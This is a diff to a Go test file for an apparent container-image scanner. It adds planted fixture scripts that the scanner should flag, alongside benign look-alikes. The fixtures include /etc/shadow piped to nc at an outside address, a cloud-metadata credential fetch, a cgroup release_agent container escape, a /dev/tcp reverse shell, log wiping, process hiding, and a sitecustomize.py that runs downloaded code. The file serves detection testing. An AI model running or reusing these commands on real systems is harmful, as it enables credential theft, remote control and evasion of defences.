@@ -201,6 +201,7 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "autostart-fetches-code", path: "/etc/supervisor/conf.d/sync.conf", layer: 1},
 		hit{rule: "autostart-fetches-code", path: "/etc/crontabs/root", layer: 1},
 		hit{rule: "autostart-fetches-code", path: "/usr/local/lib/python3.11/site-packages/zz-init.pth", layer: 1},
+		hit{rule: "script-runs-downloaded-code", path: "/usr/local/lib/python3.11/site-packages/zz-init.pth", layer: 1},
 		hit{rule: "autostart-fetches-code", path: "/etc/apt/apt.conf.d/00hook", layer: 1},
 		hit{rule: "kernel-module-loaded-at-start", path: "/etc/sv/agent/run", layer: 1},
 		hit{rule: "persistence-point", path: "/etc/xdg/autostart/notes.desktop", layer: 1})
@@ -385,6 +386,34 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		ent{name: "usr/share/doc/upx/NEWS", body: "UPX! marks every packed file.\n"}),
 		hit{rule: "packed-executable", path: "/opt/sync/agent", layer: 1},
 		hit{rule: "packed-executable", path: "/opt/sync/helper", layer: 1})
+
+	// More of what intruders' scripts do, each in a form the first patterns
+	// missed: credentials piped into nc, the metadata service asked from
+	// Python, a cgroup release_agent and core_pattern escape, commands read
+	// from a socket, system logs wiped and the journal vacuumed, a process
+	// hidden under a kernel thread's name and a bind mount over /proc, a
+	// sitecustomize.py running a download. An application's scripts probing
+	// its own port, mounting a tmpfs, binding a data volume, rotating its
+	// own log, vacuuming the journal to two weeks, naming its process, and
+	// Python reading (not running) a download or a commented exec are not.
+	add("test/t-scripts-more", nil, nil, one(
+		ent{name: "opt/agent/exfil.sh", mode: 0o755, body: "#!/bin/sh\nnc 203.0.113.5 9000 < /etc/shadow\n"},
+		ent{name: "opt/agent/meta.py", body: "from urllib.request import urlopen\nc = urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()\n"},
+		ent{name: "opt/agent/cg.sh", mode: 0o755, body: "#!/bin/sh\nd=$(dirname $(ls -x /s*/fs/c*/*/r* | head -n1))\nmkdir -p $d/x; echo 1 > $d/x/notify_on_release\necho \"$host_path/cmd\" > $d/release_agent\n"},
+		ent{name: "opt/agent/rs.sh", mode: 0o755, body: "#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.77/443; cat <&5 | while read line; do $line 2>&5 >&5; done\n"},
+		ent{name: "opt/agent/wipe.sh", mode: 0o755, body: "#!/bin/sh\nrm -rf /var/log/*.log /var/log/journal/*\njournalctl --vacuum-time=1s\n"},
+		ent{name: "opt/agent/hide.sh", mode: 0o755, body: "#!/bin/bash\n( exec -a '[kworker/u8:2-events]' /usr/local/lib/worker/wrk --quiet ) &\nmount --bind /var/lib/.empty /proc/$!\n"},
+		ent{name: "var/lib/appdata/pyhooks/sitecustomize.py", body: "import threading, urllib.request\nthreading.Thread(target=lambda: exec(urllib.request.urlopen(\"https://cdn-static-assets.net/s/boot.py\").read())).start()\n"},
+		ent{name: "srv/app/ops.sh", mode: 0o755, body: "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\nmount -t tmpfs tmpfs /run/app\ndocker run -v /srv/data:/data app\n" +
+			"rm -f /var/log/app/old.log\njournalctl --vacuum-time=2weeks\ntouch -r /srv/app/ref /srv/app/x\nexec -a myapp /usr/bin/python3 /srv/app/main.py\n"},
+		ent{name: "srv/app/fetch.py", body: "# exec(urlopen(url).read()) would run it: never do that\ndata = urlopen(url).read()\ncfg = json.loads(requests.get(u).text)\n"}),
+		hit{rule: "script-uploads-credentials", path: "/opt/agent/exfil.sh", layer: 1},
+		hit{rule: "script-reads-cloud-credentials", path: "/opt/agent/meta.py", layer: 1},
+		hit{rule: "script-escapes-container", path: "/opt/agent/cg.sh", layer: 1},
+		hit{rule: "script-reverse-shell", path: "/opt/agent/rs.sh", layer: 1},
+		hit{rule: "script-impairs-defences", path: "/opt/agent/wipe.sh", layer: 1},
+		hit{rule: "script-hides-process", path: "/opt/agent/hide.sh", layer: 1},
+		hit{rule: "script-runs-downloaded-code", path: "/var/lib/appdata/pyhooks/sitecustomize.py", layer: 1})
 
 	// A miner's dropper clearing the host: rivals killed by CPU share and by
 	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
